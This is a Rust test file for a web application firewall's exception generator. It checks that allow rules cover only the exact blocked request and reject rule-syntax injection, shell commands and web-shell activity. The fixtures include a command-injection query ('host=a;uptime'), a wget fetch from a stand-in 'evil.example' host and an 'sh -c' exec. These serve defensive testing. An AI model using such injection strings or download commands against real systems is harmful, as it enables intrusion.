use std::sync::Arc;
use std::time::Duration;

use clew_ftw::Run;
use clew_protocol::RequestId;
use clew_protocol::report::{Outcome, ReportTiming, RuleMatch};
use clew_protocol::request::Client;
use clew_rules::engine::RuleSet;
use clew_rules::seclang::parse_text;
use serde_json::{Value, json};

use super::*;
use crate::testing::{open, whole};
use crate::{BODIES, Compiled, Host, Pack, check};

fn found(id: u64, variable: &str, disruptive: bool) -> RuleMatch {
    RuleMatch {
        id,
        message: String::new(),
        data: String::new(),
        variable: variable.to_owned(),
        severity: None,
        tags: Vec::new(),
        file: String::new(),
        line: 1,
        disruptive,
    }
}

fn report(target: &str, matches: Vec<RuleMatch>) -> Report {
    Report {
        at: Duration::from_secs(1),
        id: RequestId(uuid::Uuid::nil()),
        client: Client {
            address: [192, 0, 2, 1].into(),
            port: 1,
            shared: false,
            cross_site: false,
        },
        peer: [192, 0, 2, 1].into(),
        forwarded: Vec::new(),
        server: ([192, 0, 2, 2], 80).into(),
        tls: None,
        trace: None,
        version: "1.1".to_owned(),
        method: "GET".to_owned(),
        target: target.to_owned(),
        authority: "a".to_owned(),
        user_agent: None,
        referrer: None,
        content_type: None,
        request_body_bytes: 0,
        response_body_bytes: 0,
        service: Some("shop".to_owned()),
        upstream: None,
        status: Some(403),
        outcome: Outcome::Denied,
        incident: None,
        score: (0, 0),
        matches,
        matches_cut: 0,
        packs: Arc::new([]),
        timing: ReportTiming::default(),
    }
}

fn of_report(report: &Report) -> Result<Exception, ExceptError> {
    Exception::of(&Record::parse(&serde_json::to_vec(report).expect("JSON"))?)
}

fn status(rules: &Arc<RuleSet>, target: &str) -> (Option<u16>, Vec<RuleMatch>) {
    let request = format!("GET {target} HTTP/1.1\r\nHost: a\r\n\r\n");
    let run = Run::of_bytes(rules, request.as_bytes());
    // As the edge reports them: the variable stands in the line of the log.
    let variable = |line: &String| {
        let rest = line.split(" at ").nth(1).unwrap_or_default();
        rest.split(". [").next().unwrap_or_default().to_owned()
    };
    let matches = run
        .ids
        .iter()
        .zip(&run.log)
        .map(|(id, line)| found(*id, &variable(line), true));
    (run.status, matches.collect())
}

fn compiled(packs: &[Pack]) -> Arc<RuleSet> {
    let before = parse_text("bodies.conf", BODIES).expect("bodies");
    let host = Host {
        before,
        ..Host::default()
    };
    Compiled::of(packs, host).expect("compiled").rules
}

#[test]
fn an_exception_lets_the_very_request_pass_and_no_neighbour() {
    let shop = whole("shop", "1.0.0", "block", 100, "bad");
    let target = "/se%61rch/x?q=bad&lang=en";
    let (refused, matches) = status(&compiled(&[open(&shop)]), target);
    assert_eq!(
        (refused, matches[0].variable.as_str()),
        (Some(403), "ARGS:q")
    );
    let exception = of_report(&report(target, matches)).expect("exception");
    let folder = tempfile::tempdir().expect("folder");
    let path = folder.path().join("exceptions");
    let written = exception.write(&path).expect("written");
    assert_eq!(written.version.to_string(), "0.0.1");
    assert!(
        written.text.contains("@streq /search/x\""),
        "{}",
        written.text
    );
    let pack = Pack::open(&path).expect("pack");
    assert!(
        check(&pack)
            .iter()
            .all(|it| it.severity == crate::Severity::Warning)
    );
    let rules = compiled(&[open(&shop), pack]);
    assert_eq!(
        status(&rules, target).0,
        Some(404),
        "it passes to the server behind"
    );
    for neighbour in [
        "/search/y?q=bad",
        "/search/x/?q=bad",
        "/search/x?p=bad",
        "/search/x?q=fine&p=bad",
        "/?q=bad",
    ] {
        assert_eq!(status(&rules, neighbour).0, Some(403), "{neighbour}");
    }
    // A pack that runs after others could except nothing.
    assert!(exception.write(shop.path()).is_err());
    // The same again is not written twice; another is added.
    assert!(exception.write(&path).is_err());
    let other = of_report(&report("/other", vec![found(100, "ARGS:q", true)])).expect("exception");
    assert_eq!(
        other.write(&path).expect("added").version.to_string(),
        "0.0.2"
    );
    let rules = compiled(&[open(&shop), Pack::open(&path).expect("pack")]);
    assert_eq!(
        (status(&rules, target).0, status(&rules, "/other?q=bad").0),
        (Some(404), Some(404))
    );
    assert_eq!(
        rules
            .rules()
            .iter()
            .filter(|it| it.id >= 9_400_000 && it.id < 9_500_000)
            .count(),
        2
    );
}

#[test]
fn of_scores_what_was_counted_is_excepted() {
    let matches = vec![
        found(942_100, "ARGS:q", false),
        found(949_110, "TX:ANOMALY_SCORE", true),
    ];
    let exception = of_report(&report("/a", matches.clone())).expect("exception");
    assert_eq!(exception.rules.len(), 1);
    assert_eq!(
        (exception.rules[0].rule, exception.rules[0].target.as_str()),
        (942_100, "ARGS:q")
    );
    assert!(exception.left[0].contains("949110"));
    // Where a rule has stopped it by itself, those that only watched stay.
    let matches = vec![
        found(1, "ARGS:q", false),
        found(2, "REQUEST_HEADERS:User-Agent", true),
    ];
    let exception = of_report(&report("/a", matches)).expect("exception");
    assert_eq!(
        exception.rules.iter().map(|it| it.rule).collect::<Vec<_>>(),
        [2]
    );
}

#[test]
fn nothing_that_a_client_named_can_mean_more_than_itself() {
    for variable in [
        "ARGS:/.*/",
        "ARGS:a|REQUEST_HEADERS",
        "ARGS:a,ctl:ruleEngine=Off",
        "ARGS:a\"",
        "ARGS:a'",
        "ARGS:a b",
        "ARGS:",
        "ARGS:a;b",
        "ARGS:%{x}",
        "ARGS:\u{fffd}",
        "ARGS",
        "IP:x",
        "",
    ] {
        let error = of_report(&report("/a", vec![found(1, variable, true)])).expect_err(variable);
        assert!(
            matches!(error, ExceptError::Nothing(_)),
            "{variable}: {error}"
        );
    }
    for target in [
        "/a%22b",
        "/a%5cb",
        "/%25%7btx.x%7d",
        "/a%0ab",
        "/a b",
        "*",
        "/\u{fffd}",
        &format!("/{}", "a".repeat(2047)),
    ] {
        let matches = vec![found(1, "ARGS:q", true)];
        assert!(of_report(&report(target, matches)).is_err(), "{target}");
    }
}

#[test]
fn what_no_rule_has_stopped_has_no_exception() {
    for (outcome, word) in [
        (Outcome::Banned, "clew bans"),
        (Outcome::Limited, "[[limit]]"),
        (Outcome::Malformed, "[limits]"),
        (Outcome::Cancelled, "incident"),
    ] {
        let report = Report {
            outcome,
            ..report("/a", vec![found(1, "ARGS:q", true)])
        };
        let error = of_report(&report).expect_err(word).to_string();
        assert!(error.contains(word), "{error}");
    }
    assert!(matches!(Record::parse(b"{}"), Err(ExceptError::Record(_))));
    assert!(matches!(
        Record::parse(b"{\"steps\":1}"),
        Err(ExceptError::Record(_))
    ));
}

fn incident(proof: &str, target: &str, steps: &Value) -> Value {
    json!({
        "@timestamp": "2025-01-01T00:00:00Z", "id": uuid::Uuid::nil(), "revision": 1, "action": "cancelled",
        "proof": proof, "evidence": (proof == "content").then_some("uptime"), "candidates": [], "steps": steps,
        "steps_cut": 0, "ban": null, "timing": { "exec_to_cancel_ms": null, "exec_to_ban_ms": null },
        "request": {
            "id": uuid::Uuid::nil(), "sequence": 1, "source_ip": "192.0.2.1", "source_port": 1, "method": "GET",
            "target": target, "authority": "a", "service": "shop", "upstream": "127.0.0.1:1", "status": 403,
            "relayed_body_bytes": 0, "edge": { "score": 0, "rules": [] },
        },
    })
}

fn exec(path: &str, arguments: &[&str]) -> Value {
    json!({
        "at_ms": 1.0, "decision": "killed", "strength": "reader", "kind": "exec", "pid": 1, "executable": path,
        "filename": path, "args": arguments, "env_vars": [], "working_directory": "/", "uid": 0, "gid": 0,
        "inode": null, "ancestry": [], "cgroup_id": 0, "container_id": null, "truncated": false,
    })
}

fn connect(target: &str) -> Value {
    json!({
        "at_ms": 1.0, "decision": "denied", "strength": "reader", "kind": "connect", "pid": 1, "tid": 1, "comm": "x",
        "target": target, "transport": "tcp",
    })
}

fn of_incident(value: &Value) -> Result<Exception, ExceptError> {
    Exception::of(&Record::parse(value.to_string().as_bytes())?)
}

#[test]
fn programs_and_connections_are_allowed_exactly() {
    let steps = json!([
        exec("/usr/bin/convert", &["convert", "a \"b\".png"]),
        connect("10.0.0.5:5432"),
        connect("10.0.0.5:5432")
    ]);
    let exception = of_incident(&incident("lineage", "/thumb?id=5", &steps)).expect("exception");
    let folder = tempfile::tempdir().expect("folder");
    exception
        .write(&folder.path().join("exceptions"))
        .expect("written");
    let policy = Pack::open(&folder.path().join("exceptions"))
        .expect("pack")
        .manifest
        .policy;
    assert_eq!(
        policy.lines(),
        [
            "exec /usr/bin/convert [\"convert\", \"a \\\"b\\\".png\"] service \"shop\"",
            "connect 10.0.0.5/32 port 5432 Tcp service \"shop\"",
        ]
    );
    assert!(exception.warnings.is_empty());
    let shell = json!([exec("/bin/sh", &["sh", "-c", "uptime"])]);
    let exception = of_incident(&incident("lineage", "/status", &shell)).expect("exception");
    assert!(
        exception.warnings[0].contains("runs what its arguments say"),
        "{:?}",
        exception.warnings
    );
}

#[test]
fn what_the_request_chose_is_not_allowed() {
    let shell = json!([exec("/bin/sh", &["sh", "-c", "uptime"])]);
    let wget = json!([exec("/usr/bin/wget", &["wget", "http://evil.example/x"])]);
    for (proof, target, steps) in [
        ("content", "/x", &shell),
        ("lineage", "/ping?host=a;uptime", &shell),
        ("lineage", "/get?url=http%3A%2F%2Fevil.example%2Fx", &wget),
        (
            "lineage",
            "/ping?host=10.0.0.5",
            &json!([connect("10.0.0.5:80")]),
        ),
        ("lineage", "/x", &json!([connect("0.0.0.0:0")])),
    ] {
        let error = of_incident(&incident(proof, target, steps)).expect_err(target);
        assert!(
            matches!(error, ExceptError::Nothing(_)),
            "{target}: {error}"
        );
    }
    for mut step in [
        exec("/usr/bin/convert", &["convert"]),
        connect("10.0.0.5:80"),
    ] {
        let writer = json!({ "at": "", "before_ms": 1.0, "path": "/srv/x.php", "proof": "lineage", "request": null });
        step["written_by"] = json!([writer]);
        let error = of_incident(&incident("lineage", "/x", &json!([step]))).expect_err("written");
        assert!(error.to_string().contains("web shell"), "{error}");
    }
    let mut cut = exec("/usr/bin/convert", &["convert"]);
    cut["truncated"] = true.into();
    assert!(of_incident(&incident("lineage", "/x", &json!([cut]))).is_err());
    let lossy = exec("/usr/bin/convert", &["convert", "\u{fffd}"]);
    assert!(of_incident(&incident("lineage", "/x", &json!([lossy]))).is_err());
}
